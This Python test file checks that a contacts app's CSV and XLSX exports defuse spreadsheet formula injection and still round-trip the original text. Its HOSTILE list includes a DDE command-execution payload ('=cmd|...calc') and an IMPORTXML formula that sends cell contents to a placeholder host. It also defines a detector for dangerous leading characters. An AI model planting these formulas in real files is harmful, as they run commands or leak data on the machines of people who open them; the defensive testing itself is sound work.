"""Texts that a spreadsheet would run: harmless in every format we write, and the same again when the file comes back."""

from __future__ import annotations

import csv
import io
import json
import zipfile
from collections.abc import Callable
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from amanat.accounts.models import Member, Workspace
from amanat.accounts.tests.factories import make_workspace, owner_of
from amanat.core import spreadsheets, tenancy
from amanat.people import export_formats
from amanat.people.export_records import Records
from amanat.people.importing.readers import open_table
from amanat.people.models import Company, Contact
from amanat.people.tests.factories import make_company, make_contact
from amanat.people.tests.test_importing_runs import figures, imported

HOSTILE = [
    "=1+1", "=cmd|' /C calc'!A0", "+1+1", "-1+1", "@SUM(A1)", "=HYPERLINK(\"http://example.in\",\"x\")", "\t=1+1", "\r=1+1", " =1+1", "＝1+1", "＋1",
    "－1", "＠x", "|calc", "%0A=1", "'=1+1", "''=1+1", "\"=1+1\"", "=IMPORTXML(CONCAT(\"http://example.in/?\",A1),\"//a\")", "−1", "\u200b=1+1",
    "+919823012345", "9823012345", "(+91) 98230 12345", "'(+91) 98230 12345", "007", "1e5", "TRUE", "1/2", "5-2-1975", "=", "-", "+", "@", "''",
]  # fmt: skip
_STARTS = ("=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠", "|", "%", "−")


def is_alive(cell: str) -> bool:
    return cell.strip(' "\u200b\ufeff').startswith(_STARTS) or cell.startswith(_STARTS)


@pytest.mark.parametrize("text", HOSTILE)
def test_no_cell_of_a_csv_is_alive_and_each_comes_back(text: str) -> None:
    content = b"".join(spreadsheets.write_csv([text, "B"], [[text, "x"], ["y", text]]))
    (heading, first, second) = csv.reader(io.StringIO(content.decode("utf-8-sig"), newline=""))
    assert not [cell for cell in (*heading, *first, *second) if is_alive(cell)]
    table = open_table(content, "a.csv")
    assert table.columns == [text, "B"]
    assert [list(row.cells) for row in table.rows()] == [[text, "x"], ["y", text]]


@pytest.mark.parametrize("text", HOSTILE)
def test_no_cell_of_a_workbook_is_a_formula_and_each_comes_back(text: str) -> None:
    buffer = io.BytesIO()
    spreadsheets.write_xlsx(["Name", "B"], [[text, "x"]], buffer)
    with zipfile.ZipFile(buffer) as archive:
        sheet = archive.read("xl/worksheets/sheet1.xml")
    assert b"<f" not in sheet and b"<v" not in sheet
    (row,) = open_table(buffer.getvalue(), "a.xlsx").rows()
    assert row.cells[0] == text


@settings(max_examples=150)
@given(start=st.sampled_from(_STARTS), lead=st.text(" '\"\u200b", max_size=3), rest=st.text(max_size=8))
def test_any_text_that_begins_so_is_harmless_and_comes_back(start: str, lead: str, rest: str) -> None:
    text = (lead + start + rest).replace("\0", "").encode("utf-8", "replace").decode()
    written = spreadsheets.inert(text)
    assert not is_alive(written)
    assert spreadsheets.restored(written) == text


@pytest.mark.slow
@pytest.mark.django_db
@pytest.mark.parametrize(
    ("format", "ending"), [("csv", "csv"), ("xlsx", "xlsx"), ("vcf3", "vcf"), ("vcf4", "vcf"), ("json", "json")]
)
def test_contacts_of_hostile_texts_come_back_from_every_format(shree: Workspace, format: str, ending: str) -> None:
    names = [text for text in HOSTILE if text.strip() == text and "\u200b" not in text and "\r" not in text]
    for place, name in enumerate(names):
        make_contact(shree, name, phone=f"+9198230{place:05}", notes=f"{name} again", tags=[name[:50]], job_title=name)
    content = exported(shree, "contact", format)
    there = owner_of(make_workspace("There"))
    assert figures(imported(there, content, name=f"people.{ending}")) == ("done", len(names), 0, 0, 0)
    columns = ("name", "notes", "job_title", "main_phone")
    assert table_of(there.workspace, Contact, *columns) == table_of(shree, Contact, *columns)


@pytest.mark.slow
@pytest.mark.django_db
@pytest.mark.parametrize(("format", "ending"), [("csv", "csv"), ("xlsx", "xlsx"), ("json", "json")])
def test_companies_of_hostile_texts_come_back_from_every_format(shree: Workspace, format: str, ending: str) -> None:
    names = [text for text in HOSTILE if text.strip() == text and "\u200b" not in text and "\r" not in text]
    for name in names:
        make_company(shree, name, industry=name[:60], notes=name)
    there = owner_of(make_workspace("There"))
    run = imported(there, exported(shree, "company", format), name=f"firms.{ending}")
    assert figures(run) == ("done", len(names), 0, 0, 0)
    columns = ("name", "industry", "notes")
    assert table_of(there.workspace, Company, *columns) == table_of(shree, Company, *columns)


def exported(workspace: Workspace, on: str, format: str) -> bytes:
    with tenancy.inside(workspace):
        return export_formats.in_memory(Records(on, workspace.pk), format)


def table_of(workspace: Workspace, model: Any, *columns: str) -> list[tuple[Any, ...]]:
    with tenancy.inside(workspace):
        return sorted(model.objects.of(workspace).values_list(*columns))


@pytest.mark.django_db
def test_failed_rows_come_back_as_they_stood_in_the_file(shree: Workspace) -> None:
    """The file of failed rows is ours too: mended and imported, its texts are those of the first file."""
    from amanat.accounts.tests.factories import signed_in

    rekha: Member = owner_of(shree)
    run = imported(rekha, "Name,Mobile,Notes\n,12,=1+1\n=HYPERLINK(1),9823012345,ok\n")
    assert figures(run)[1:] == (1, 0, 0, 1)
    answer: Any = signed_in(rekha).get(f"/imports/{run.pk}/failed/")
    content = b"".join(answer.streaming_content)
    (heading, failed) = csv.reader(io.StringIO(content.decode("utf-8-sig"), newline=""))
    assert heading[:3] == ["Name", "Mobile", "Notes"] and not [cell for cell in failed if is_alive(cell)]
    mended = content.replace(b",12,", b"Ravi Patil,9823012346,", 1)
    assert figures(imported(rekha, mended, name="failed rows.csv"))[1] == 1
    with tenancy.inside(shree):
        assert Contact.objects.of(shree).get(name="Ravi Patil").notes == "=1+1"


@pytest.mark.django_db
@pytest.mark.parametrize("write", [json.dumps, lambda text: json.dumps(text, ensure_ascii=False)])
def test_json_of_another_program_is_the_same_json(shree: Workspace, write: Callable[[Any], str]) -> None:
    make_contact(shree, "सुनीता =1+1", phone="+919823012345")
    content = write(json.loads(exported(shree, "contact", "json"))).encode()
    there = owner_of(make_workspace("There"))
    assert figures(imported(there, content, name="people.json"))[:2] == ("done", 1)
    assert table_of(there.workspace, Contact, "name") == [("सुनीता =1+1",)]
